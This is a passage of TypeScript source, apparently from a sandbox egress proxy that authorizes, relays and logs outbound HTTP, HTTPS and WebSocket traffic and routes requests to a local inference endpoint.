          return;
        }
        cb(null, ctx);
      },
    });
    tlsSock.on('error', () => {
      if (sniError) emit({ type: 'egress_denied', ...baseEvent(t, target), verdict: 'deny', rule: null, reason: sniError, scope: 'connection' });
      sock.destroy();
    });
    const ok = await new Promise<boolean>((resolve) => {
      tlsSock.once('secure', () => resolve(true));
      tlsSock.once('close', () => resolve(false));
      tlsSock.once('error', () => resolve(false));
    });
    if (!ok) return;
    const r2 = new StreamReader(tlsSock);
    t.destroy = () => {
      tlsSock.destroy();
      sock.destroy();
    };
    await serveHttp(t, tlsSock, r2, { target, scheme: 'https', authority });
  }

  function sameAuthority(hostHeader: string, target: Target, defaultPort: number): boolean {
    const h = parseAuthority(hostHeader, defaultPort);
    if ('error' in h) return false;
    const c = canonical(h.host);
    return !('error' in c) && c.host === target.host && h.port === target.port;
  }

  /** Serves one non-CONNECT request; returns whether the connection stays open. */
  async function handleRequest(
    t: Tracked,
    stream: Duplex,
    reader: StreamReader,
    head: RequestHead,
    tunnel: Tunnel | null,
    agents: { http?: HttpAgent; https?: HttpsAgent },
  ): Promise<boolean | 'upgraded'> {
    let target: Target;
    let scheme: 'http' | 'https';
    let path: string;
    let query: string;
    const hostHeader = headerValue(head.headers, 'host');
    if (tunnel) {
      const o = parseOriginTarget(head.target);
      if (!o || head.method === 'CONNECT') {
        throw new Refusal(400, { error: 'bad_request', reason: 'inside a tunnel only origin-form requests are accepted' });
      }
      target = tunnel.target;
      scheme = tunnel.scheme;
      path = o.path;
      query = o.query;
      if (hostHeader !== undefined && !sameAuthority(hostHeader, target, target.port)) {
        throw new Refusal(421, { error: 'host_mismatch', reason: `Host header ${JSON.stringify(hostHeader)} does not name the tunnel target ${tunnel.authority}` });
      }
    } else {
      const abs = parseAbsoluteTarget(head.target);
      if ('error' in abs) {
        throw new Refusal(400, { error: 'bad_request', reason: head.target.startsWith('/') ? 'origin-form request sent to a proxy: use an absolute URL or CONNECT' : abs.error });
      }
      if (abs.scheme !== 'http') throw new Refusal(400, { error: 'bad_request', reason: 'absolute-form https:// requests are not accepted: use CONNECT' });
      const c = canonical(abs.host);
      if ('error' in c) throw new Refusal(400, { error: 'bad_request', reason: `request host: ${c.error}` });
      target = { ...c, port: abs.port };
      scheme = 'http';
      path = abs.path;
      query = abs.query;
      if (hostHeader !== undefined && !sameAuthority(hostHeader, target, 80)) {
        throw new Refusal(400, { error: 'host_mismatch', reason: `Host header ${JSON.stringify(hostHeader)} does not match the request target ${target.host}:${target.port}` });
      }
    }
    const originForm = query ? `${path}?${query}` : path;
    if (target.host === INFERENCE_HOST && !tunnel) {
      refuseReplacedBinary(t, target, { method: head.method, path, query });
      return serveInference(t, stream, reader, head, originForm);
    }

    const req = { method: head.method, path, query };
    const auth = await authorize(t, target, req);
    const { address } = await resolveChecked(t, target, auth.d.allowedIps, req);
    decisionAfterWait(t, target, req, auth, address);
    if (!tunnel) {
      t.host = target.host;
      t.port = target.port;
      t.address = address;
      t.approvedOnce = false;
    }
    // An operator's once-approval covers this request whatever a reload says; otherwise a reload
    // that takes away this request's rule ends the connection mid-response.
    t.request = auth.approvedOnce ? null : req;

    // upstream request headers: drop hop-by-hop fields and those named in Connection
    const named = new Set(headerTokens(head.headers, 'connection'));
    const out: string[] = [];
    let sawHost = false;
    for (const [k, v] of head.headers) {
      const l = k.toLowerCase();
      if (HOP_BY_HOP.has(l) || named.has(l)) continue;
      if (l === 'host') sawHost = true;
      out.push(k, v);
    }
    if (!sawHost) out.push('Host', tunnel ? tunnel.authority : target.port === 80 ? target.host : `${target.host}:${target.port}`);
    if (head.body.kind === 'chunked') out.push('Transfer-Encoding', 'chunked');
    const expectContinue = headerTokens(head.headers, 'expect').includes('100-continue');
    // WebSocket: the only upgrade we pass on (a GET without a body, decided like any request).
    const websocket =
      head.method === 'GET' &&
      head.body.kind === 'none' &&
      named.has('upgrade') &&
      (headerValue(head.headers, 'upgrade') ?? '').toLowerCase() === 'websocket';
    if (websocket) out.push('Connection', 'Upgrade', 'Upgrade', 'websocket');

    const common = { host: address, port: target.port, method: head.method, path: originForm, headers: out, setHost: false };
    let upstreamReq: ClientRequest;
    if (websocket) {
      // a fresh upstream connection that leaves the agent once upgraded
      upstreamReq =
        scheme === 'https'
          ? httpsRequest({ ...common, agent: false, servername: target.kind === 'dns' ? target.host : '', secureContext: upstreamTls() } as HttpsRequestOptions)
          : httpRequest({ ...common, agent: false });
      return serveUpgrade(t, stream, reader, upstreamReq, head, target, address, req);
    }
    if (scheme === 'https') {
      agents.https ??= new HttpsAgent({ keepAlive: true, maxSockets: 1, secureContext: upstreamTls() } as ConstructorParameters<typeof HttpsAgent>[0]);
      upstreamReq = httpsRequest({ ...common, agent: agents.https, servername: target.kind === 'dns' ? target.host : '' });
    } else {
      agents.http ??= new HttpAgent({ keepAlive: true, maxSockets: 1 });
      upstreamReq = httpRequest({ ...common, agent: agents.http });
    }

    const responded = new Promise<IncomingMessage>((resolve, reject) => {
      upstreamReq.once('response', resolve);
      upstreamReq.once('error', reject);
    });
    responded.catch(() => {});
    const onClientClose = () => upstreamReq.destroy();
    stream.once('close', onClientClose);

    try {
      if (expectContinue && head.minor === 1) stream.write('HTTP/1.1 100 Continue\r\n\r\n');
      const sent = { bytes: 0 };
      await pumpBody(reader, head, {
        write: (b) => ((sent.bytes += b.length), upstreamReq.write(b)),
        end: () => upstreamReq.end(),
        once: (ev, cb) => upstreamReq.once(ev, cb),
      });
      let res: IncomingMessage;
      try {
        res = await responded;
      } catch (err) {
        const reason = `upstream ${address}:${target.port}: ${(err as NodeJS.ErrnoException).code ?? (err as Error).message}`;
        emit({ type: 'egress_error', ...baseEvent(t, target, req), verdict: null, rule: null, reason, address });
        throw new Refusal(502, { error: 'upstream_error', host: target.host, port: target.port, reason });
      }
      const received = { bytes: 0 };
      const keep = await pumpResponse(stream, head, res, received);
      const bytes = { up: sent.bytes, down: received.bytes, relay: 'proxy' as const };
      const status = res.statusCode ?? 0;
      emit({ type: 'egress_request_done', ...baseEvent(t, target, req), verdict: null, rule: null, reason: `${req.method} ${req.path}: ${status}, ${bytes.up} body bytes up, ${bytes.down} down${keep ? '' : ' (connection closed)'}`, address, bytes, status });
      return keep;
    } finally {
      stream.off('close', onClientClose);
    }
  }

  /** Passes a WebSocket upgrade through: the upstream's 101 goes back, then bytes are relayed. */
  async function serveUpgrade(
    t: Tracked,
    stream: Duplex,
    reader: StreamReader,
    upstreamReq: ClientRequest,
    head: RequestHead,
    target: Target,
    address: string,
    req: { method: string; path: string },
  ): Promise<boolean | 'upgraded'> {
    const outcome = new Promise<{ kind: 'upgrade'; res: IncomingMessage; socket: Duplex; first: Buffer } | { kind: 'response'; res: IncomingMessage }>((resolve, reject) => {
      upstreamReq.once('upgrade', (res: IncomingMessage, socket: Duplex, first: Buffer) => resolve({ kind: 'upgrade', res, socket, first }));
      upstreamReq.once('response', (res: IncomingMessage) => resolve({ kind: 'response', res }));
      upstreamReq.once('error', reject);
    });
    outcome.catch(() => {});
    upstreamReq.end();
    let o: Awaited<typeof outcome>;
    try {
      o = await outcome;
    } catch (err) {
      const reason = `upstream ${address}:${target.port}: ${(err as NodeJS.ErrnoException).code ?? (err as Error).message}`;
      emit({ type: 'egress_error', ...baseEvent(t, target, req), verdict: null, rule: null, reason, address });
      throw new Refusal(502, { error: 'upstream_error', host: target.host, port: target.port, reason });
    }
    if (o.kind === 'response') return pumpResponse(stream, head, o.res);
    const lines = [`HTTP/1.1 101 ${(o.res.statusMessage ?? 'Switching Protocols').replace(/[\r\n]/g, '')}`];
    const raw = o.res.rawHeaders;
    for (let i = 0; i + 1 < raw.length; i += 2) lines.push(`${raw[i] as string}: ${raw[i + 1] as string}`);
    stream.write(`${lines.join('\r\n')}\r\n\r\n`);
    if (o.first.length) stream.write(o.first);
    const rest = reader.detach();
    if (rest.length) o.socket.write(rest);
    const up = o.socket;
    up.on('error', () => stream.destroy());
    stream.on('error', () => up.destroy());
    up.on('close', () => stream.destroy());
    stream.on('close', () => up.destroy());
    stream.pipe(up);
    up.pipe(stream);
    stream.resume();
    return 'upgraded';
  }

  async function serveInference(t: Tracked, stream: Duplex, reader: StreamReader, head: RequestHead, url: string): Promise<boolean> {
    if (!inference) {
      throw new Refusal(503, {
        error: 'inference_unavailable',
        host: INFERENCE_HOST,
        reason: 'no inference router is configured for this sandbox yet; inference.local answers once `nemoclaw serve` runs with an inference profile',
      });
    }
    const body = new Readable({ read() {} });
    const feeding = (async () => {
      const sink = {
        write: (b: Buffer) => {
          body.push(b);
          return true;
        },
        end: () => body.push(null),
      };
      await pumpBody(reader, head, sink);
    })();
    let headWritten = false;
    let chunked = false;
    const res: InferenceResponse = {
      writeHead(status, headers = {}) {
        if (headWritten) return;
        headWritten = true;
        const lines = [`HTTP/1.1 ${status} ${STATUS_TEXT[status] ?? (status < 300 ? 'OK' : 'Status')}`];
        let hasLength = false;
        for (const [k, v] of Object.entries(headers)) {
          const l = k.toLowerCase();
          if (HOP_BY_HOP.has(l) || /[\r\n]/.test(k + v)) continue;
          if (l === 'content-length') hasLength = true;
          lines.push(`${k}: ${v}`);
        }
        if (!hasLength) {
          chunked = true;
          lines.push('Transfer-Encoding: chunked');
        }
        lines.push(`Connection: ${head.keepAlive ? 'keep-alive' : 'close'}`);
        stream.write(`${lines.join('\r\n')}\r\n\r\n`);
      },
      write(chunk) {
        if (!headWritten) res.writeHead(200);
        const b = typeof chunk === 'string' ? Buffer.from(chunk) : chunk;
        if (b.length === 0) return Promise.resolve();
        const ok = chunked ? stream.write(`${b.length.toString(16)}\r\n`) && stream.write(b) && stream.write('\r\n') : stream.write(b);
        return ok ? Promise.resolve() : new Promise((r) => stream.once('drain', () => r()));
      },
      async end(chunk) {
        if (chunk !== undefined) await res.write(chunk);
        if (!headWritten) res.writeHead(200, { 'Content-Length': '0' });
        if (chunked) stream.write('0\r\n\r\n');
      },
    };
    await inference.handle({ sandbox, binary: t.binary, method: head.method, url, headers: head.headers, body }, res);
    await feeding;
    return head.keepAlive;
  }

  return finishStart();

  // -------------------------------------------------------------------------------------------

  async function finishStart(): Promise<EgressProxy> {
    const server: Server = createServer({ pauseOnConnect: false, allowHalfOpen: true }, (sock) => {
      sockets.add(sock);
      sock.once('close', () => sockets.delete(sock));
      void handleClient(sock).catch(() => sock.destroy());
    });
    server.maxConnections = 4096;
    await new Promise<void>((resolve, reject) => {
      server.once('error', reject);
      server.listen(opts.socketPath, () => {
        server.off('error', reject);
        resolve();
      });
    });
    chmodSync(opts.socketPath, 0o600);

    const proxy: EgressProxy = {
      socketPath: opts.socketPath,
      sandboxId: sandbox,
      caCertPath: certPath,
      caBundlePath: bundlePath,
      caEnv: caEnvironment(bundlePath),
      events,
      reload(next?: EgressRuleSet): number {
        rules = next ?? (getter ? getter() : rules);
        let closed = 0;
        for (const t of [...tracked]) {
          if (t.host === null || t.port === null || t.approvedOnce) continue;
          const r = revalidate(rules, { host: t.host, port: t.port, binary: t.binary, address: t.address, relay: t.relay, request: t.request });
          if (r.keep) continue;
          closed++;
          tracked.delete(t);
          const { verdict, rule } = r.decision;
          emit({ type: 'egress_closed_by_reload', pid: t.identity.pid || null, binary: t.binary, host: t.host, port: t.port, method: t.request?.method ?? null, path: t.request?.path ?? null, verdict, rule, reason: r.reason });
          t.destroy();
        }
        return closed;
      },
      pins: () => new Map(pins),
      unpin(exe?: string): string[] {
        const dropped = exe === undefined ? [...pins.keys()] : pins.has(exe) ? [exe] : [];
        for (const p of dropped) pins.delete(p);
        return dropped;
      },
      connections: () => sockets.size,
      setInferenceRouter(router) {
        inference = router;
      },
      async close() {
        await new Promise<void>((resolve) => {
          server.close(() => resolve());
          for (const s of sockets) s.destroy();
        });
        try {
          unlinkSync(opts.socketPath);
        } catch {
          // already gone
        }
      },
    };
    return proxy;
  }
}

// Read buffers for byte relays. A buffer is owned by one read until that read's write to the
// client has completed: synchronously in the common case (returned at once), or later, when the
// client is slower (returned from the write callback while the upstream is paused). So buffers in
// use are bounded by the tunnels with a write in flight, and bulk transfers allocate nothing per
// chunk — which matters in the supervisor's large heap, where pipe()'s fresh buffer per chunk cost
// 3x the CPU (external-memory-driven full GCs) and +70 MB RSS.
const RELAY_BUFFER = 256 * 1024;
const relayPool: Buffer[] = [];
const takeRelayBuffer = (): Buffer => relayPool.pop() ?? Buffer.allocUnsafe(RELAY_BUFFER);
const giveRelayBuffer = (b: Buffer): void => {
  if (relayPool.length < 16) relayPool.push(b);
};

/**
 * Dials the upstream of a byte relay: its reads land in pooled buffers (net's `onread`) that are
 * written straight to the client; while a write is still queued, reading pauses until it completes,
 * so a buffer is never reused under a pending write. Bytes that arrive before `attach`
 * (server-first protocols) are held and sent after the 200.
 */
function dialRelay(host: string, port: number): { upstream: Socket; attach(client: Socket): void } {
  let client: Socket | null = null;
  const early: Buffer[] = [];
  const upstream: Socket = netConnect({
    host,
    port,
    noDelay: true,
    allowHalfOpen: true,
    onread: {
      buffer: takeRelayBuffer,
      callback: (n: number, buf: Uint8Array): boolean => {
        const owner = buf as Buffer;
        const chunk = Buffer.from(buf.buffer, buf.byteOffset, n);
        if (client === null || client.destroyed) {
          if (client === null) early.push(Buffer.from(chunk));
          giveRelayBuffer(owner);
          return false;
        }
        let pending = false;
        client.write(chunk, () => {
          if (!pending) return;
          giveRelayBuffer(owner);
          upstream.resume();
        });
        if (client.writableLength > 0) {
          pending = true;
          return false;
        }
        giveRelayBuffer(owner);
        return true;
      },
    },
  });
  return {
    upstream,
    attach(c: Socket) {
      client = c;
      for (const e of early.splice(0)) c.write(e);
      upstream.resume();
    },
  };
}

/**
 * Byte relay between the client and the upstream, half-close aware: an end in one direction ends
 * the other side's writable after its queued bytes are flushed, errors tear both down, and a side
 * left open after the other closed is ended, then destroyed if it lingers. Client -> upstream is a
 * pipe; upstream -> client is written by dialRelay's read callback.
 */
function relay(a: Socket, b: Socket): void {
  const linger = (s: Socket) => {
    if (s.destroyed) return;
    if (!s.writableEnded) s.end();
    setTimeout(() => s.destroy(), 30_000).unref();
  };
  a.on('error', () => b.destroy());
  b.on('error', () => a.destroy());
  a.on('close', (hadError) => (hadError ? b.destroy() : linger(b)));
  b.on('close', (hadError) => (hadError ? a.destroy() : linger(a)));
  b.on('end', () => {
    if (!a.destroyed && !a.writableEnded) a.end();
  });
  a.pipe(b);
}

function safeSystemCas(): string[] {
  try {
    return getCACertificates('system');
  } catch {
    return [];
  }
}

/** Streams the request body (Content-Length or chunked) from the reader into `sink`. */
async function pumpBody(reader: StreamReader, head: RequestHead, sink: { write(b: Buffer): boolean; end(): void; once?: (ev: 'drain', cb: () => void) => unknown }): Promise<void> {
  const waitDrain = () => new Promise<void>((r) => (sink.once ? sink.once('drain', () => r()) : r()));
  if (head.body.kind === 'length') {
    let left = head.body.length;
    while (left > 0) {
      const b = await reader.read(left);
      if (!b) throw new Refusal(400, { error: 'bad_request', reason: 'request body ended early' });
      left -= b.length;
      if (!sink.write(b)) await waitDrain();
    }
  } else if (head.body.kind === 'chunked') {
    const dec = new ChunkedDecoder();
    for (;;) {
      const b = await reader.read(64 * 1024);
      if (!b) throw new Refusal(400, { error: 'bad_request', reason: 'chunked body ended early' });
      const r = dec.push(b);
      if (r.error) throw new Refusal(400, { error: 'bad_request', reason: r.error });
      for (const d of r.data) if (d.length && !sink.write(d)) await waitDrain();
      if (dec.done) {
        if (r.rest && r.rest.length) reader.unshift(r.rest);
        break;
      }
    }
  }
  sink.end();
}

/** Writes the upstream response back with HTTP/1.1 framing; returns whether to keep the connection. */
async function pumpResponse(stream: Duplex, head: RequestHead, res: IncomingMessage, received: { bytes: number } = { bytes: 0 }): Promise<boolean> {
  const status = res.statusCode ?? 502;
  const noBody = head.method === 'HEAD' || status === 204 || status === 304 || (status >= 100 && status < 200);
  const named = new Set(headerTokens(pairs(res.rawHeaders), 'connection'));
  const lengthText = res.headers['content-length'];
  const hasTe = res.headers['transfer-encoding'] !== undefined;
  const hasLength = !hasTe && typeof lengthText === 'string' && /^\d+$/.test(lengthText);
  let mode: 'none' | 'length' | 'chunked' | 'close';
  if (noBody) mode = 'none';
  else if (hasLength) mode = 'length';
  else if (head.minor === 1) mode = 'chunked';
  else mode = 'close';
  const keep = head.keepAlive && mode !== 'close' && !named.has('close');
  const lines = [`HTTP/1.1 ${status} ${(res.statusMessage ?? '').replace(/[\r\n]/g, '')}`];
  const raw = res.rawHeaders;
  for (let i = 0; i + 1 < raw.length; i += 2) {
    const k = raw[i] as string;
    const l = k.toLowerCase();
    if (HOP_BY_HOP.has(l) || named.has(l)) continue;
    if (l === 'content-length' && mode !== 'length' && !(mode === 'none' && hasLength)) continue;
    lines.push(`${k}: ${raw[i + 1] as string}`);
  }
  if (mode === 'chunked') lines.push('Transfer-Encoding: chunked');
  lines.push(`Connection: ${keep ? 'keep-alive' : 'close'}`);
  const headText = `${lines.join('\r\n')}\r\n\r\n`;
  if (mode === 'none') {
    res.resume();
    stream.write(headText);
    await new Promise<void>((r) => (res.complete ? r() : res.once('end', r).once('close', r)));
    return keep;
  }
  stream.write(headText);
  for await (const chunk of res as AsyncIterable<Buffer>) {
    received.bytes += chunk.length;
    let ok: boolean;
    if (mode === 'chunked') {
      if (chunk.length === 0) continue;
      stream.write(`${chunk.length.toString(16)}\r\n`);
      stream.write(chunk);
      ok = stream.write('\r\n');
    } else ok = stream.write(chunk);
    if (!ok && !stream.destroyed) await new Promise<void>((r) => { stream.once('drain', r); stream.once('close', r); });
    if (stream.destroyed) return false;
  }
  if (!res.complete) {
    stream.destroy();
    return false;
  }
  if (mode === 'chunked') stream.write('0\r\n\r\n');
  return keep;
}

function pairs(raw: string[]): Array<[string, string]> {
  const out: Array<[string, string]> = [];
  for (let i = 0; i + 1 < raw.length; i += 2) out.push([raw[i] as string, raw[i + 1] as string]);
  return out;
}

